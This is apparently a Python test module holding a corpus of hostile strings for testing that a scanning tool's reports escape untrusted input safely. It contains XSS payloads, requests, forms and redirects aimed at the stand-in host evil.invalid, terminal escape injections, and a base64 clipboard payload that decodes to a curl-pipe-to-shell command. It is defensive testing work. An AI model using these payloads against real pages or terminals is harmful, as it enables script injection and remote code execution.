"""Hostile strings for the report-safety tests: what a scanned account, a pull request's IaC
files or a user's configuration can put into names, ids, tags, paths and messages.

Each entry says what it attacks. `shown()` is the text a reader must see for it in the
console and the HTML report (control and bidi characters spelled out, nothing else changed);
`FULL` (`make reliability`) adds generated strings mixing the same ingredients.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

# What a script injected into the HTML report would set, and the host an injected request
# would go to (blocked and recorded by the browser tests; never resolvable: .invalid).
SENTINEL = "__opscheck_pwned"
EVIL_HOST = "evil.invalid"
EVIL_URL = f"https://{EVIL_HOST}/x"
PWN = f"window.{SENTINEL}=1"


@dataclass(frozen=True)
class Hostile:
    key: str  # short identifier: test ids, file names
    text: str
    attacks: str  # what it tries, for the failure message


CORPUS: tuple[Hostile, ...] = (
    # -- HTML: markup, attribute break-outs, script-element break-outs, fetches
    Hostile("script", f"<script>{PWN}</script>", "a script element"),
    Hostile("img-onerror", f"<img src=x onerror={PWN}>", "an event handler on an image"),
    Hostile("svg-onload", f"<svg onload={PWN}><circle r=1></svg>", "an SVG event handler"),
    Hostile("attr-dq", f'x" autofocus onfocus="{PWN}" data-x="', "breaking out of a double-quoted attribute"),
    Hostile("attr-sq", f"x' onmouseover='{PWN}' data-x='", "breaking out of a single-quoted attribute"),
    Hostile("close-script", f"</script><script>{PWN}</script>", "closing the report's own script block"),
    Hostile("close-title", f"</title><script>{PWN}</script>", "closing <title>"),
    Hostile("close-textarea", f"</textarea></pre></details><script>{PWN}</script>", "closing containers"),
    Hostile("comment", f"<!-- --><script>{PWN}</script><!--", "an HTML comment"),
    Hostile("cdata", f"<![CDATA[ ]]><script>{PWN}</script>", "CDATA in foreign content"),
    Hostile("js-url", f"javascript:{PWN}", "a javascript: URL where a link could be made"),
    Hostile("iframe", f'<iframe src="javascript:{PWN}"></iframe>', "a frame"),
    Hostile("remote-img", f'<img src="{EVIL_URL}.png">', "an image fetched from outside"),
    Hostile(
        "remote-css", f'<link rel=stylesheet href="{EVIL_URL}.css">', "a stylesheet fetched from outside"
    ),
    Hostile("css-import", f"<style>@import url({EVIL_URL}.css);</style>", "CSS fetching from outside"),
    Hostile("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL_URL}">', "a redirect"),
    Hostile("base", f'<base href="{EVIL_URL}/">', "rebasing the page's links"),
    Hostile("form", f'<form action="{EVIL_URL}"><button>go</button></form>', "a form posting outside"),
    Hostile("entity", "&lt;script&gt; &amp; &#60;b&#62;", "pre-escaped text that must stay literal"),
    Hostile("template", "{{ 7*7 }} ${7*7} {% raw %} #{7*7}", "template and JS template syntax"),
    # -- Markdown (GitHub job summaries, rule texts): fences, links, images, raw HTML
    Hostile("md-fence", "x\n```\n<img src=x>\n```", "closing a Markdown code fence"),
    Hostile("md-link", f"[click me]({EVIL_URL}) <{EVIL_URL}>", "a Markdown link and autolink"),
    Hostile("md-image", f"![tracker]({EVIL_URL}.png)", "a Markdown image (fetched when shown)"),
    Hostile("md-ref", f"[a][r]\n\n[r]: {EVIL_URL}", "a Markdown reference definition"),
    # -- Terminals: C0, ESC sequences (CSI, OSC incl. hyperlinks and clipboard), C1
    Hostile("csi", "red\x1b[31m\x1b[2J\x1b[H", "colour, clear screen, cursor home (CSI)"),
    Hostile("osc-title", "t\x1b]0;pwned\x07", "setting the window title (OSC 0, BEL)"),
    Hostile("osc8", f"\x1b]8;;{EVIL_URL}\x1b\\click\x1b]8;;\x1b\\", "a terminal hyperlink (OSC 8)"),
    Hostile("osc52", "c\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\x07", "writing the clipboard (OSC 52)"),
    Hostile("c1-csi", "x\x9b2J\x9b31m", "C1 CSI (U+009B)"),
    Hostile("c1-osc", "x\x9d0;pwned\x9c\x85", "C1 OSC and ST, NEL"),
    Hostile("cr-overwrite", "harmless\rEVIL", "carriage return overwriting the line"),
    Hostile("backspace", "ok\x08\x08XX\x07", "backspace and bell"),
    Hostile("nul-del", "nul\x00del\x7f", "NUL and DEL"),
    Hostile("newline", "line1\nline2\r\n\x0b\x0c", "line breaks inside one value"),
    # -- Unicode: bidi overrides (Trojan Source), line separators, invisible characters
    Hostile("bidi-rlo", "invoice\u202efdp.exe", "right-to-left override"),
    Hostile(
        "bidi-isolates", "a\u2066\u2067\u2068b\u2069\u202a\u202b\u202c\u202d", "bidi embeddings/isolates"
    ),
    Hostile("bidi-marks", "x\u200e\u200f\u061cy", "bidi marks"),
    Hostile("line-sep", "a\u2028b\u2029c", "JS/JSON line and paragraph separators"),
    Hostile("bom-zw", "\ufeffa\u200bb", "byte-order mark, zero-width space"),
    # -- JSON/SARIF: lone surrogates (undecodable file names), astral characters
    Hostile("lone-high", "name\ud800end", "a lone high surrogate"),
    Hostile("lone-low", "file\udcff.tf", "a surrogate-escaped byte from an undecodable file name"),
    Hostile("astral", "\U0001f4a5 \U0001d54f \u00e9\u0301", "astral and combining characters"),
    Hostile("quotes", "\"'`\\ \\u0041 \\x41 %0a %s {0}", "quotes, backslashes, format specifiers"),
    # -- Size
    Hostile("long", "A" * 4_000 + "<script>" + "B" * 4_000, "an 8,000-character value"),
)

BY_KEY = {h.key: h for h in CORPUS}

# Characters that must never reach a terminal or an HTML page as themselves: C0 controls
# but tab and newline, DEL, C1, bidi controls, line/paragraph separators, lone surrogates.
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]"
)


def shown(text: str) -> str:
    """The text a reader sees: every UNSAFE character as \\xNN or \\uNNNN (the console also
    turns newlines into spaces)."""
    return UNSAFE.sub(lambda m: _escape(m.group()), text)


def _escape(ch: str) -> str:
    n = ord(ch)
    return f"\\x{n:02x}" if n < 0x100 else f"\\u{n:04x}"


# Ingredients of generated strings (FULL mode): fragments of the corpus and single risky
# characters, joined at random; a fixed seed keeps a failure reproducible.
_INGREDIENTS = tuple(
    {h.text[:60] for h in CORPUS if h.key != "long"}
    | {chr(c) for c in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0))}
    | {chr(0xD800), chr(0xDCFF)}  # lone surrogates, spelled so: tools read the literals as U+FFFD
    | {"\u202e", "\u2066", "\u2028", "<", ">", "&", '"', "'", "`", "\\", "]]>", "</"}
)


# One value of 200,000 characters for the full run: ten times what a policy document holds.
HUGE = Hostile("huge", "C" * 100_000 + "</script><script>" + "D" * 100_000, "a 200,000-character value")


def generated(n: int, seed: int = 20261128) -> tuple[Hostile, ...]:
    rng = random.Random(seed)
    out = []
    for i in range(n):
        parts = rng.choices(_INGREDIENTS, k=rng.randint(1, 6))
        out.append(Hostile(f"gen{i:03d}", "".join(parts), "a generated mix"))
    return tuple(out)
